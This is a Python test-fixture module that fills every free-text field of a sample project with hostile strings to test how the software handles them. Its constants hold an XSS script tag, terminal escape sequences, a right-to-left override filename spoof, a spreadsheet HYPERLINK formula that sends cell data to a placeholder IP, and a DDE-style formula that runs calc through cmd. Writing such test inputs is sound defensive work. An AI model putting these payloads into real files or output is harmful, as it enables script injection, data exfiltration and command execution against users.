"""Texts nobody should trust, and a project in whose every text field they stand."""

from __future__ import annotations

from cxstudio.catalogue.samples import sample
from cxstudio.model import Document, Record
from cxstudio.model.registry import RECORD_TYPES
from cxstudio.wording.fields.field_table import RECORDS as WORDS
from cxstudio.wording.fields.field_table import Editor

MARKUP = '<img src="file:///nowhere/pixel.png"><b>&lt;Q&A&gt;</b><script>alert(1)</script>'
ESCAPES = "\x1b]0;owned\x07\x1b[31m\x9b2Jred\x08\x00\r end"
TURNED = "\u202egnp.exe\u202c \u2066x"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
SYNTAX = "%% title: x\n\"];--><![CDATA[ ]]> {0} {name} {} %s %(n)s %n \\N{BEL} [*] 'x' `x` ${x}"
LONG = "W" * 3000 + " " + "ü" * 3000
SCRIPTS = "مرحبا בדיקה 한국어 😀👩‍👩‍👧 \ufb01 a\u0300\u0301\u0302 \u2028 \u2029 \ufeff"

HOSTILE = {
    "markup": MARKUP,
    "escapes": ESCAPES,
    "turned": TURNED,
    "formula": FORMULA,
    "command": COMMAND,
    "syntax": SYNTAX,
    "long": LONG,
    "scripts": SCRIPTS,
}
_TEXTS = (Editor.LINE, Editor.TEXT)
_NOT_FREE = frozenset({"asset", "logo"})


def text_fields() -> dict[type[Record], tuple[str, ...]]:
    """Every kind of record with its fields of free text."""
    found = {}
    for kind in RECORD_TYPES:
        words = WORDS.get(kind.__name__)
        names = tuple(
            field.name
            for field in (words.fields if words else ())
            if field.editor in _TEXTS
            and field.name not in _NOT_FREE
            and kind.model_fields[field.name].annotation is str
        )
        if names:
            found[kind] = names
    return found


def _is_text(kind: type[Record], name: str) -> bool:
    return kind.model_fields[name].annotation is str


def poisoned(text: str, language: str = "en") -> Document:
    """The sample, with this text in every field of free text of every record."""
    document, fields = sample("lindenfurt", language).document, text_fields()
    put = [record.model_copy(update=dict.fromkeys(fields.get(type(record), ()), text)) for record in document]
    return document.evolve(put)
